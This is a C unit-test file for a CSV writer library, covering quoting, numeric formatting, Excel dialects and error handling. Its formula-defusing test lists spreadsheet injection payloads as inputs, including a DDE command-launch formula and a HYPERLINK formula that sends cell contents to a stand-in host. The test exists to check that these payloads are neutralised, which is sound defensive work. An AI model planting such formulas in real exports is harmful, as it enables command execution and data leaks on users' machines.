#include "fakes/fake_sink.h"
#include "support/cmocka_all.h"

#include <math.h>
#include <mq/csv.h>
#include <stdio.h>
#include <string.h>

struct out {
	struct fake_sink_log log;
	struct mq_sink *sink;
	struct mq_csv *csv;
};

static void begin(struct out *o, const char *dialect)
{
	*o = (struct out){ 0 };
	o->sink = fake_sink_new(&o->log);
	o->csv = mq_csv_new(o->sink, mq_csv_dialect(dialect));
}

static void end(struct out *o, const char *expected, size_t len)
{
	assert_int_equal(mq_csv_end_row(o->csv, NULL), MQ_OK);
	assert_int_equal(mq_csv_flush(o->csv, NULL), MQ_OK);
	assert_int_equal(o->log.written.len, len);
	assert_memory_equal(o->log.written.data, expected, len);
	mq_csv_free(o->csv);
	mq_sink_free(o->sink);
	mq_str_free(&o->log.written);
}

#define END(o, text) end(o, text, sizeof(text) - 1)

static void text_cells_follow_rfc_4180(void **state)
{
	(void)state;
	static const struct {
		const char *in, *out;
	} cells[] = {
		{ "plain", "plain" },
		{ "", "\"\"" },
		{ "a,b", "\"a,b\"" },
		{ "a;b", "a;b" },
		{ "say \"hi\"", "\"say \"\"hi\"\"\"" },
		{ "\"", "\"\"\"\"" },
		{ "\"\"\"", "\"\"\"\"\"\"\"\"" },
		{ "a\nb", "\"a\nb\"" },
		{ "a\r\nb", "\"a\r\nb\"" },
		{ " blanks ", " blanks " },
		{ "\xc3\x9c\xf0\x9f\x9a\x80", "\xc3\x9c\xf0\x9f\x9a\x80" },
		{ "NULL", "NULL" },
		{ "0012345", "0012345" },
	};

	for (size_t i = 0; i < sizeof cells / sizeof cells[0]; i++) {
		struct out o;
		char line[100];

		begin(&o, "rfc4180");
		mq_csv_text(o.csv, cells[i].in, strlen(cells[i].in));
		mq_csv_int(o.csv, 1);
		int n = snprintf(line, sizeof line, "%s,1\r\n", cells[i].out);
		end(&o, line, (size_t)n);
	}
}

static void text_that_looks_like_a_formula_is_defused(void **state)
{
	(void)state;
	static const struct {
		const char *in, *out;
	} cells[] = {
		{ "=1+1", "'=1+1" },
		{ "=", "'=" },
		{ "-", "'-" },
		{ "--1", "'--1" },
		{ "-2+3", "'-2+3" },
		{ "+SUM(1;1)", "'+SUM(1;1)" },
		{ "@SUM(1+9)", "'@SUM(1+9)" },
		{ "=cmd|' /C calc'!A0", "'=cmd|' /C calc'!A0" },
		{ "=HYPERLINK(\"http://x\"&A1;\"k\")",
		  "\"'=HYPERLINK(\"\"http://x\"\"&A1;\"\"k\"\")\"" },
		{ "\t=1+1", "'\t=1+1" },
		{ "\r=1+1", "\"'\r=1+1\"" },
		{ "+49 30 23125", "'+49 30 23125" },
		{ "-1.2.3", "'-1.2.3" },
		{ "-1e", "'-1e" },
		{ "-e5", "'-e5" },
		{ "-", "'-" },
		/* plain numbers stay what they are */
		{ "-5", "-5" },
		{ "+5", "+5" },
		{ "-0.5", "-0.5" },
		{ "-1e-5", "-1e-5" },
		{ "1+1", "1+1" },
		{ "a=1", "a=1" },
		{ "'=1", "'=1" },
	};

	for (size_t i = 0; i < sizeof cells / sizeof cells[0]; i++) {
		struct out o;
		char line[100];

		begin(&o, "rfc4180");
		mq_csv_text(o.csv, cells[i].in, strlen(cells[i].in));
		int n = snprintf(line, sizeof line, "%s\r\n", cells[i].out);
		end(&o, line, (size_t)n);
	}
}

static void a_leading_nul_is_defused_and_nothing_is_lost_behind_it(void **state)
{
	(void)state;
	struct out o;

	begin(&o, "rfc4180");
	mq_csv_text(o.csv, "\0=1", 3);
	mq_csv_text(o.csv, "a\0b", 3);
	END(&o, "'\0=1,a\0b\r\n");
}

static void null_differs_from_empty_text(void **state)
{
	(void)state;
	struct out o;

	begin(&o, "rfc4180");
	mq_csv_null(o.csv);
	mq_csv_text(o.csv, "", 0);
	mq_csv_null(o.csv);
	END(&o, ",\"\",\r\n");
}

static void a_row_of_one_null_is_still_a_row(void **state)
{
	(void)state;
	struct out o;

	begin(&o, "rfc4180");
	mq_csv_null(o.csv);
	END(&o, "\"\"\r\n");
}

static void numbers_are_written_exactly(void **state)
{
	(void)state;
	struct out o;

	begin(&o, "rfc4180");
	mq_csv_int(o.csv, INT64_MIN);
	mq_csv_int(o.csv, INT64_MAX);
	mq_csv_int(o.csv, 0);
	mq_csv_int(o.csv, -7);
	mq_csv_real(o.csv, 0.1);
	mq_csv_real(o.csv, -99.5);
	mq_csv_real(o.csv, 30.0);
	mq_csv_real(o.csv, 0.1 + 0.2);
	mq_csv_real(o.csv, 1e300);
	mq_csv_real(o.csv, -0.0);
	END(&o, "-9223372036854775808,9223372036854775807,0,-7,0.1,-99.5,30,"
		"0.30000000000000004,1e+300,0\r\n");
}

static void hundredths_have_two_decimals(void **state)
{
	(void)state;
	struct out o;

	begin(&o, "rfc4180");
	mq_csv_hundredths(o.csv, 3000);
	mq_csv_hundredths(o.csv, -5);
	mq_csv_hundredths(o.csv, 0);
	mq_csv_hundredths(o.csv, 99);
	mq_csv_hundredths(o.csv, 9999999999);
	mq_csv_hundredths(o.csv, INT64_MIN);
	END(&o, "30.00,-0.05,0.00,0.99,99999999.99,-92233720368547758.08\r\n");
}

static void german_excel_gets_semicolon_decimal_comma_and_mark(void **state)
{
	(void)state;
	struct out o;

	begin(&o, "excel-de");
	mq_csv_text(o.csv, "a,b", 3);
	mq_csv_text(o.csv, "a;b", 3);
	mq_csv_hundredths(o.csv, -12345);
	mq_csv_real(o.csv, 1.5);
	END(&o, "\xef\xbb\xbf"
		"a,b;\"a;b\";-123,45;1,5\r\n");
}

static void every_dialect_of_the_table_is_known(void **state)
{
	(void)state;
	struct out o;

	begin(&o, "excel-en");
	mq_csv_text(o.csv, "a,b", 3);
	mq_csv_hundredths(o.csv, 150);
	END(&o, "\xef\xbb\xbf"
		"\"a,b\",1.50\r\n");
	begin(&o, "tsv");
	mq_csv_text(o.csv, "a,b", 3);
	mq_csv_text(o.csv, "a\tb", 3);
	END(&o, "a,b\t\"a\tb\"\n");
	assert_null(mq_csv_dialect("excel"));
	assert_null(mq_csv_dialect(""));
}

static void a_cell_larger_than_the_buffer_is_whole(void **state)
{
	(void)state;
	enum { SIZE = 300 * 1000 };
	static char text[SIZE], expected[2 * SIZE + 4];
	struct out o;
	size_t n = 0;

	for (size_t i = 0; i < SIZE; i++)
		text[i] = i % 1000 == 999 ? '"' : (char)('a' + i % 26);
	expected[n++] = '"';
	for (size_t i = 0; i < SIZE; i++) {
		expected[n++] = text[i];
		if (text[i] == '"')
			expected[n++] = '"';
	}
	memcpy(expected + n, "\"\r\n", 3);
	begin(&o, "rfc4180");
	mq_csv_text(o.csv, text, SIZE);
	end(&o, expected, n + 3);
}

static void the_first_error_of_the_sink_is_kept(void **state)
{
	(void)state;
	struct fake_sink_log log = { .fail_write = 2 };
	struct mq_sink *sink = fake_sink_new(&log);
	struct mq_csv *csv = mq_csv_new(sink, mq_csv_dialect("rfc4180"));
	static const char cell[70 * 1000];
	struct mq_err err = { 0 };

	mq_csv_text(csv, cell, sizeof cell);
	assert_int_equal(mq_csv_end_row(csv, &err), MQ_OK);
	mq_csv_text(csv, cell, sizeof cell);
	assert_int_equal(mq_csv_end_row(csv, &err), MQ_E_NOSPACE);
	assert_string_equal(err.text, "write 2 fails");
	mq_csv_text(csv, cell, sizeof cell);
	assert_int_equal(mq_csv_flush(csv, &err), MQ_E_NOSPACE);
	assert_int_equal(log.writes, 2);
	mq_csv_free(csv);
	mq_sink_free(sink);
	mq_str_free(&log.written);
}

int main(void)
{
	const struct CMUnitTest tests[] = {
		cmocka_unit_test(text_cells_follow_rfc_4180),
		cmocka_unit_test(text_that_looks_like_a_formula_is_defused),
		cmocka_unit_test(a_leading_nul_is_defused_and_nothing_is_lost_behind_it),
		cmocka_unit_test(null_differs_from_empty_text),
		cmocka_unit_test(a_row_of_one_null_is_still_a_row),
		cmocka_unit_test(numbers_are_written_exactly),
		cmocka_unit_test(hundredths_have_two_decimals),
		cmocka_unit_test(german_excel_gets_semicolon_decimal_comma_and_mark),
		cmocka_unit_test(every_dialect_of_the_table_is_known),
		cmocka_unit_test(a_cell_larger_than_the_buffer_is_whole),
		cmocka_unit_test(the_first_error_of_the_sink_is_kept),
	};

	return cmocka_run_group_tests(tests, NULL, NULL);
}
